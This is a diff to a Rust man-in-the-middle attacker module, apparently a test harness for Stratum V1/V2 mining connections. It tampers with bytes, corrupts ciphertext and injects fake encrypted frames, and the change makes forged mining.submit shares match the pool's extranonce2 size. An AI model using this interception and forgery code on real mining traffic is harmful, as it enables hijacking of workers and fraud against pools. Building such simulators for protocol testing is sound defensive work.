@@ -104,9 +104,10 @@ impl Attacker {
             protocol: Protocol::Unknown,
             partial: [Vec::new(), Vec::new()],
             own_worker_authorized: false,
-            opaque_changed: false,
+            once_done: false,
             worker: None,
             job: None,
+            extranonce2_size: 8,
             applied: false,
             closed: false,
         }))
@@ -131,13 +132,15 @@ pub(crate) struct Connection {
     /// An SV1 line not yet complete, per direction (up, down).
     partial: [Vec<u8>; 2],
     own_worker_authorized: bool,
-    /// Whether the connection's one change of a stream the attacker cannot read (or its
+    /// Whether the connection's one change (of a stream the attacker cannot read, or its
     /// one injection) is done.
-    opaque_changed: bool,
+    once_done: bool,
     /// What the attacker read of an SV1 connection: the farm's worker, and its current
     /// job's id and time.
     worker: Option<String>,
     job: Option<(Value, Value)>,
+    /// The extranonce2 size the pool gave at subscribe.
+    extranonce2_size: usize,
     applied: bool,
     closed: bool,
 }
@@ -158,9 +161,10 @@ impl Connection {
                 _ => Protocol::Opaque,
             };
         }
-        match (self.attacker.attack.clone(), self.protocol) {
-            (Attack::Tamper { every_bytes }, _) => self.tamper(direction, chunk, every_bytes),
-            (attack, Protocol::Sv1) => self.sv1_lines(direction, chunk, &attack),
+        let attacker = self.attacker.clone();
+        match (&attacker.attack, self.protocol) {
+            (Attack::Tamper { every_bytes }, _) => self.tamper(direction, chunk, *every_bytes),
+            (attack, Protocol::Sv1) => self.sv1_lines(direction, chunk, attack),
             (Attack::HijackWorker { .. }, _) => self.change_ciphertext(direction, chunk),
             (Attack::Inject, _) => self.inject_frame(direction, chunk),
         }
@@ -198,13 +202,13 @@ impl Connection {
     fn change_ciphertext(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
         let mut out = chunk.to_vec();
         if direction == Direction::Up
-            && !self.opaque_changed
+            && !self.once_done
             && !out.is_empty()
             && self.attacker.active()
         {
             let middle = out.len() / 2;
             out[middle] ^= 0xff;
-            self.opaque_changed = true;
+            self.once_done = true;
             self.record(direction, AttackAction::CiphertextChanged);
         }
         out
@@ -214,10 +218,10 @@ impl Connection {
     /// chunk the farm sends once the attack is on: 6 bytes of header and 16 of MAC, what
     /// the smallest encrypted SV2 frame takes, of bytes no key made.
     fn inject_frame(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
-        if direction == Direction::Down || self.opaque_changed || !self.attacker.active() {
+        if direction == Direction::Down || self.once_done || !self.attacker.active() {
             return chunk.to_vec();
         }
-        self.opaque_changed = true;
+        self.once_done = true;
         let mut out: Vec<u8> = (0..22).map(|_| rand::random::<u8>()).collect();
         out.extend_from_slice(chunk);
         self.record(direction, AttackAction::FrameInjected);
@@ -269,6 +273,15 @@ impl Connection {
                 let params = &message["params"];
                 self.job = Some((params[0].clone(), params[7].clone()));
             }
+            // The answer to mining.subscribe: [subscriptions, extranonce1, extranonce2 size].
+            (Direction::Down, None) => {
+                if let Some(size) = message["result"][2]
+                    .as_u64()
+                    .filter(|s| (1..=32).contains(s))
+                {
+                    self.extranonce2_size = size as usize;
+                }
+            }
             _ => {}
         }
     }
@@ -277,18 +290,19 @@ impl Connection {
     /// worker's name, before the farm's next request.
     fn inject_submit(&mut self, out: &mut Vec<u8>) {
         let (Some(worker), Some((job_id, ntime)), false) =
-            (&self.worker, &self.job, self.opaque_changed)
+            (&self.worker, &self.job, self.once_done)
         else {
             return;
         };
+        let extranonce2 = "00".repeat(self.extranonce2_size);
         let forged = serde_json::json!({
             "id": INJECTED_SUBMIT,
             "method": "mining.submit",
-            "params": [worker, job_id, "0000000000000000", ntime, "00000000"],
+            "params": [worker, job_id, extranonce2, ntime, "00000000"],
         });
         out.extend_from_slice(forged.to_string().as_bytes());
         out.push(b'\n');
-        self.opaque_changed = true;
+        self.once_done = true;
         self.record(Direction::Up, AttackAction::SubmitInjected);
     }
 
